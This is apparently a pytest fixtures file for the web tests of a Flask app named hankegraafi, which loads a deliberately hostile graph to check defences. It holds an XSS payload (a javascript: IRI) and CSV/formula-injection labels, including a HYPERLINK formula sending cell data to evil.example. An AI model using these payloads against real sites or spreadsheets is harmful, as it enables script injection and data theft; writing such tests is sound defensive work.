"""Fixtures of the web tests.

In process: the pages' app on the bundled samples (``tests/pages``'s
fixtures), and a small store of hostile values (a ``javascript:`` IRI, cells
a spreadsheet would run). Live: ``hankegraafi serve`` on a store written by
the command line as a user would (``ingest --samples``, then ``load`` of a
graph with a ``javascript:`` IRI), for the browser, axe-core and the Nu
Html Checker.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from hankegraafi.server import create_app
from hankegraafi.settings import Config
from hankegraafi.store.embedded import EmbeddedStore
from tests.pages.conftest import app, client, demo_store  # noqa: F401  (the samples, shared)
from tests.server.conftest import LiveServer, start_server, stop_server

HERE = Path(__file__).parent
PROJECT = "https://w3id.org/hankegraafi/id/project/lapin-pilari-4-investointi-1"
EVIL_IRI = "javascript:alert(document.domain)"
FORMULA = '=HYPERLINK("http://evil.example/?kaavatesti"&A1,"Avaa")'

#: The hostile graph: a javascript: IRI on a real project, and labels that a spreadsheet would run.
HOSTILE_TTL = f"""
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix hg: <https://w3id.org/hankegraafi/ontology#> .
<{PROJECT}> rdfs:seeAlso <{EVIL_IRI}> .
<https://w3id.org/hankegraafi/id/project/kaavatesti-1> a hg:Project ;
    rdfs:label {FORMULA!r} , "+kaavatesti plus" , "-kaavatesti minus" , "@kaavatesti at" ,
        "\\tkaavatesti tab" , "kaavatesti tavallinen" , "-1200.50" .
"""


def hankegraafi(*args: str) -> subprocess.CompletedProcess[str]:
    """The real command line, as a user runs it."""
    exe = str(Path(sys.executable).with_name("hankegraafi"))
    return subprocess.run([exe, *args], capture_output=True, text=True, timeout=600, check=False)


@pytest.fixture(scope="session")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.ttl"
    path.write_text(HOSTILE_TTL, encoding="utf-8")
    return path


@pytest.fixture(scope="session")
def hostile_store(hostile_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with only the hostile graph, written by ``hankegraafi load``."""
    path = tmp_path_factory.mktemp("hostile-store") / "store"
    done = hankegraafi("load", str(hostile_file), "--store", str(path))
    assert done.returncode == 0, done.stderr
    return path


@pytest.fixture(scope="session")
def hostile_app(hostile_store: Path) -> Iterator[Flask]:
    store = EmbeddedStore(hostile_store)
    config = Config.load({"store": str(hostile_store), "rate_limit": "100000/minute"}, environ={})
    yield create_app(config, store=store)
    store.close()


@pytest.fixture
def hostile_client(hostile_app: Flask) -> FlaskClient:
    return hostile_app.test_client()


@pytest.fixture(scope="session")
def served_samples(
    cli_samples_store: Path, hostile_file: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LiveServer]:
    """``hankegraafi serve`` on the samples plus the hostile graph, both written by the command line.

    The samples' ingest is the session's one (``cli_samples_store`` in tests/conftest.py: every
    sample stored, so the same store ``ingest --samples`` writes), copied before the load.
    """
    path = tmp_path_factory.mktemp("served") / "store"
    shutil.copytree(cli_samples_store, path)
    done = hankegraafi("load", str(hostile_file), "--store", str(path))
    assert done.returncode == 0, done.stdout + done.stderr
    server = start_server(
        str(path), tmp_path_factory.mktemp("served-log") / "serve.log", rate_limit="100000/minute"
    )
    yield server
    stop_server(server)
